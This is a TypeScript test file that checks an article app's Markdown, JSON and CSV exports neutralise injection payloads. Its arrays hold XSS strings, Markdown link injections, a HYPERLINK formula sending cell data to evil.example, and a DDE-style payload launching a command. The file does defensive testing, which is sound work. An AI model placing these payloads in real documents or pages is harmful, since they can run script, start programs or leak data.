// Script-injection and formula payloads in every field of a saved article stay inert in
// every export (utils/export.ts): Markdown renders them as text, JSON round-trips them
// byte for byte, CSV quotes them and defuses spreadsheet formulas.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { buildCsvExport, buildJsonExport, buildMarkdownExport } from '@/utils/export';
import { parseBackup } from '@/utils/import';
import type { SavedArticle } from '@/utils/library';

const NOW = new Date('2024-03-20T08:00:00Z');

const HTML_PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '"><svg/onload=alert(3)>',
  '<a href="javascript:alert(4)">کلیک</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<style>body{display:none}</style>',
];
const MARKDOWN_PAYLOADS = [
  '[کلیک کنید](javascript:alert(5))',
  '![x](https://evil.example/track.png)',
  '[ref]: javascript:alert(6)',
  '<javascript:alert(7)>',
  '`code` **bold** _em_ ~~del~~ $x$ %%c%% ==h== #tag',
  '# heading',
  '> quote',
  '1. list',
  '- item',
  '| a | b |',
];
const FORMULA_PAYLOADS = [
  '=HYPERLINK("https://evil.example/?q="&A1,"کلیک")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nسطر دوم',
];
const ALL = [...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS, ...FORMULA_PAYLOADS];

function hostileArticle(payload: string, n: number): SavedArticle {
  return {
    id: `h${n}`,
    url: n % 2 ? 'javascript:alert(8)' : `https://news.example.invalid/${n}?q=<script>`,
    canonicalUrl: n % 2 ? 'javascript:alert(8)' : `https://news.example.invalid/${n}?q=<script>`,
    title: `${payload} عنوان ${n}`,
    site: payload,
    published: '2024-03-19T09:30:00+03:30',
    savedAt: new Date(NOW.getTime() - n * 60_000).toISOString(),
    updatedAt: NOW.toISOString(),
    summary: [payload, `جمله دوم ${payload}`],
    speakers: [{ name: payload, role: payload, quotes: [payload, `«${payload}»`], aliases: [payload] }],
    figures: [{ value: 639, unit: 'پروژه', text: payload, sentence: payload, kind: 'count' }],
    note: payload,
    tags: [payload, 'اقتصاد'],
    schemaVersion: 2,
  };
}

const articles = ALL.map(hostileArticle);

/** Markdown with every backslash escape removed: what is left is what a renderer would act on. */
function activeMarkdown(md: string): string {
  return md.replace(/\\[\s\S]/g, '');
}

describe('Markdown export', () => {
  const md = buildMarkdownExport(articles, NOW);
  const active = activeMarkdown(md);

  it('has no raw HTML tag: every < is escaped or opens an http(s) autolink', () => {
    const angles = [...active.matchAll(/<[^>\n]*>?/g)].map((m) => m[0]);
    for (const a of angles) expect(a).toMatch(/^<https?:\/\/[^\s<>"'`\\]+>$/);
  });

  it('makes no link, image or reference definition out of page text', () => {
    expect(active).not.toMatch(/\]\s*\(/);
    expect(active).not.toMatch(/^\s*\[[^\]]*\]:/m);
    expect(active).not.toMatch(/!\[/);
    expect(active.toLowerCase()).not.toContain('<javascript:');
  });

  it('turns no page text into a heading, list, quote or table of its own (the reader\'s note keeps its Markdown)', () => {
    let inNote = false;
    for (const line of md.split('\n')) {
      if (line === '### یادداشت' || line === '---') inNote = line !== '---';
      if (inNote && line !== '### یادداشت') continue;
      if (/^#{1,3} /.test(line)) expect(line).toMatch(/^(# چکیده|## |### (خلاصه|گویندگان|ارقام|یادداشت))/);
      if (/^\|/.test(line)) throw new Error(`table row from page text: ${line}`);
    }
  });

  it('still shows each payload\'s words to the reader (escaped, not dropped)', () => {
    for (const word of ['onerror', 'alert(2)', 'HYPERLINK', 'کلیک کنید']) expect(md).toContain(word);
  });
});

describe('JSON export', () => {
  const json = buildJsonExport(articles, NOW);

  it('round-trips every payload literally through parseBackup', () => {
    const parsed = parseBackup(json);
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.skipped).toEqual([]);
    const byId = new Map(parsed.articles.map((a) => [a.id, a]));
    for (const a of articles) expect(byId.get(a.id)).toEqual(a);
  });

  it('is plain JSON text (no executable wrapper)', () => {
    expect(json.trimStart().startsWith('{')).toBe(true);
    expect(() => JSON.parse(json)).not.toThrow();
  });
});

describe('CSV export', () => {
  const csv = buildCsvExport(articles);
  const parsed = Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true });
  const [header, ...rows] = parsed.data;

  it('parses back to one row per article with the same columns', () => {
    expect(parsed.errors).toEqual([]);
    expect(rows).toHaveLength(articles.length);
    for (const row of rows) expect(row).toHaveLength(header.length);
  });

  it('no cell starts with a formula trigger (= + - @ tab CR), and a multi-line cell is checked by its first character', () => {
    for (const row of rows) {
      for (const cell of row) {
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('keeps the payload readable: a defused cell is «\'» plus the original', () => {
    const titleCol = header.indexOf('title');
    const noteCol = header.indexOf('note');
    const notes = rows.map((r) => r[noteCol]);
    for (const payload of FORMULA_PAYLOADS) expect(notes).toContain(`'${payload}`);
    for (const payload of HTML_PAYLOADS) expect(notes).toContain(payload);
    expect(rows.map((r) => r[titleCol])).toContain(`${HTML_PAYLOADS[0]} عنوان 0`);
  });
});
